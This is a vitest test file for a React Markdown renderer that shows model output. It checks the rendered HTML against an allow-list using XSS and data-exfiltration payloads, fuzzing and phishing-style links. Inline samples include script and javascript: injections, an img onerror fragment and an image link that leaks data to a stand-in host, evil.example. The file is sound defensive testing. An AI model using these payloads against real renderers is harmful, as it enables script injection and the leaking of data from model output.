import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { EXFILTRATION_PAYLOADS, MARKDOWN_PAYLOADS } from "#e2e/markdown-payloads.ts";
import { cpuTimeMs } from "#lib/base/cpu-time.fixture.ts";
import { Markdown } from "./markdown.tsx";

const render = (text: string, streaming = false) =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-zA-Z-]+="[^"<>]*")*)\/?>/y;
const ATTRIBUTE = / ([a-zA-Z-]+)="([^"<>]*)"/g;

/** Every attribute an element may have, and what it may say. */
const ALLOWED: Record<string, Record<string, RegExp>> = {
  div: { class: /^(?:md|md-settled|md-scroll)$/, tabindex: /^0$/ },
  p: { class: /^(?:md-html|md-plain)$/ },
  h3: { class: /^md-h[1-6]$/ },
  a: {
    href: /^(?:https?:\/\/[^\s/]|mailto:[^\s])/,
    target: /^_blank$/,
    rel: /^noopener noreferrer nofollow$/,
    referrerpolicy: /^no-referrer$/,
  },
  span: { class: /^md-host$/ },
  ul: {},
  ol: { start: /^\d+$/ },
  li: { class: /^md-task$/ },
  blockquote: {},
  pre: { tabindex: /^0$/, class: /^md-plain$/ },
  code: {},
  em: {},
  strong: {},
  del: {},
  br: {},
  hr: {},
  sup: {},
  table: {},
  thead: {},
  tbody: {},
  tr: {},
  th: { class: /^md-(?:left|center|right)$/ },
  td: { class: /^md-(?:left|center|right)$/ },
};

/** What in the markup is not on the list above; empty when all is well. */
function findings(markup: string): string[] {
  const found: string[] = [];
  for (let at = markup.indexOf("<"); at !== -1; at = markup.indexOf("<", at + 1)) {
    TAG.lastIndex = at;
    const tag = TAG.exec(markup);
    if (!tag) {
      found.push(`not a tag: ${markup.slice(at, at + 60)}`);
      continue;
    }
    const [, , name = "", attributes = ""] = tag;
    const allowed = ALLOWED[name];
    if (!allowed) found.push(`element ${name}`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(ATTRIBUTE)) {
      const pattern = allowed?.[attribute.toLowerCase()];
      if (!pattern?.test(value)) found.push(`${name} ${attribute}="${value}"`);
    }
    if (name === "a" && tag[1] === "" && !attributes.includes('rel="noopener noreferrer nofollow"')) {
      found.push("a link without rel");
    }
  }
  return found;
}

describe("the checker itself", () => {
  test.each([
    "<script>",
    "<img src=x>",
    '<a href="javascript:alert(1)">',
    '<p onclick="x">',
    '<p id="x">',
    '<p style="x">',
    '<a href="https://a.b">',
    "<P>",
  ])("it finds %s", (markup) => {
    expect(findings(markup)).not.toEqual([]);
  });
});

describe("[R11] no script runs from markdown", () => {
  test("there are at least 150 payloads, all different", () => {
    expect(new Set(MARKDOWN_PAYLOADS).size).toBe(MARKDOWN_PAYLOADS.length);
    expect(MARKDOWN_PAYLOADS.length).toBeGreaterThanOrEqual(150);
  });

  test.each(MARKDOWN_PAYLOADS.map((payload) => [payload]))("[R11] %j", (payload) => {
    const around = `before ${payload} after`;
    for (const text of [
      payload,
      around,
      `para\n\n${payload}\n\npara\n`,
      `- ${payload}\n`,
      `> ${payload}\n`,
    ]) {
      expect(findings(render(text))).toEqual([]);
      expect(findings(render(text, true))).toEqual([]);
    }
  });

  test("[R11] cut at every character, as a stream shows it", { timeout: 60_000 }, () => {
    for (const payload of [...MARKDOWN_PAYLOADS, ...EXFILTRATION_PAYLOADS]) {
      for (let end = 1; end < payload.length; end++) {
        expect(findings(render(payload.slice(0, end), true))).toEqual([]);
      }
    }
  });

  test("[R11] cut at every byte of what is not ASCII", () => {
    for (const payload of MARKDOWN_PAYLOADS.filter((text) => /[^\0-\x7f]/.test(text))) {
      const bytes = new TextEncoder().encode(payload);
      for (let end = 1; end < bytes.length; end++) {
        expect(findings(render(new TextDecoder().decode(bytes.slice(0, end)), true))).toEqual([]);
      }
    }
  });

  test("[R11] 20,000 random documents", { timeout: 60_000 }, () => {
    const piece = fc.constantFrom(
      ...[
        "[",
        "](",
        ")",
        "![",
        "]: ",
        "<",
        ">",
        "\n",
        "\n\n",
        "`",
        "```\n",
        "*",
        "_",
        "|",
        "|-|\n",
        "- ",
        "1. ",
        "> ",
        "# ",
      ],
      ...[
        "&#x6a;",
        "&colon;",
        "javascript:",
        "data:",
        "https://a.example",
        "www.b.example",
        "c@d.example",
        "[^1]",
        "[^1]: ",
      ],
      ...[
        "<script",
        "<img src=x onerror=",
        "<a href=",
        "</",
        "/>",
        '"',
        "'",
        "\\",
        "\t",
        "    ",
        "\u0000",
        "🌊",
        "é",
        "word ",
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), fc.boolean(), (pieces, streaming) => {
        expect(findings(render(pieces.join(""), streaming))).toEqual([]);
      }),
      { numRuns: 20_000 },
    );
  });

  test("[R11] HTML is shown as it was written", () => {
    expect(render("a <b>c</b>\n\n<script>alert(1)</script>")).toContain(
      "&lt;script&gt;alert(1)&lt;/script&gt;",
    );
    expect(render("a <b>c</b>")).toContain("a &lt;b&gt;c&lt;/b&gt;");
  });

  test("[R11] footnotes and headings bring no ids", () => {
    const markup = render("# location\n\nx[^1]\n\n[^1]: note");
    expect(markup).not.toMatch(/\s(?:id|name)=/);
    expect(markup).toContain("<sup>1</sup>");
    expect(markup).toContain("note");
  });

  test("[R11] nesting without end is text, soon", () => {
    for (const text of [
      "> ".repeat(4_000),
      "- ".repeat(4_000),
      "1. ".repeat(3_000),
      "*a_".repeat(3_000),
      "[".repeat(9_000),
      `${"[".repeat(2_000)}${"](x)".repeat(1_000)}`,
    ]) {
      const startMs = cpuTimeMs();
      expect(findings(render(text, true))).toEqual([]);
      expect(cpuTimeMs() - startMs).toBeLessThan(1_000);
    }
  });
});

describe("[R12] model output calls nobody", () => {
  test.each(EXFILTRATION_PAYLOADS.map((payload) => [payload]))("[R12] %j", (payload) => {
    for (const streaming of [false, true]) {
      const markup = render(payload, streaming);
      expect(findings(markup)).toEqual([]);
      expect(markup).not.toMatch(/<[^>]*\s(?:src|srcset|style|background|poster|data|xlink:href|ping)=/);
    }
  });

  test("[R12] there are at least 40 spellings", () => {
    expect(new Set(EXFILTRATION_PAYLOADS).size).toBeGreaterThanOrEqual(40);
  });

  test("[R12] a picture becomes a link that names its host", () => {
    const markup = render("![a lake](https://evil.example:8080/leak?q=1)");
    expect(markup).toContain("Image: a lake");
    expect(markup).toContain("evil.example:8080");
    expect(markup).toContain('referrerPolicy="no-referrer"');
  });

  test("[R12] a link says where it really leads", () => {
    expect(render("[https://bank.example](https://bank.example@evil.example/x)")).toContain("(evil.example)");
    expect(render("[bank](https://b\u0430nk.example)")).toContain("(xn--");
    expect(render("[write](mailto:someone@example.com)")).toContain("(someone@example.com)");
  });
});

describe("[R14] maths and diagrams are absent", () => {
  test("[R14] they show as what was written", () => {
    expect(render("$$\\frac{1}{2}$$")).toContain("$$\\frac{1}{2}$$");
    expect(render("```mermaid\ngraph TD\n```")).toContain("<code>graph TD\n</code>");
    expect(render("```math\nx\n```")).toContain("<code>x\n</code>");
  });
});

describe("what it is for", () => {
  test("the lines of a poem stay lines, and no line is added", () => {
    expect(render("one\n*two*\n*three*")).toContain("<p>one\n<em>two</em>\n<em>three</em></p>");
    expect(render("one  \ntwo\\\nthree")).toContain("<p>one<br/>two<br/>three</p>");
    expect(render("- *a*\n  *b*\n  - c\n\n> d\n\ne")).toContain(
      "<ul><li><em>a</em>\n<em>b</em><ul><li>c</li></ul></li></ul><blockquote><p>d</p></blockquote><p>e</p>",
    );
  });

  test("formats what models usually write", () => {
    const markup = render(
      "## Plan\n\n1. **one**\n2. `two`\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n\n~~old~~",
    );
    for (const part of [
      '<h3 class="md-h2">',
      "<ol>",
      "<strong>one</strong>",
      "<code>two</code>",
      '<td class="md-right">',
    ]) {
      expect(markup).toContain(part);
    }
    expect(markup).toContain('<li class="md-task">☑ done</li>');
    expect(markup).toContain("<del>old</del>");
  });
});
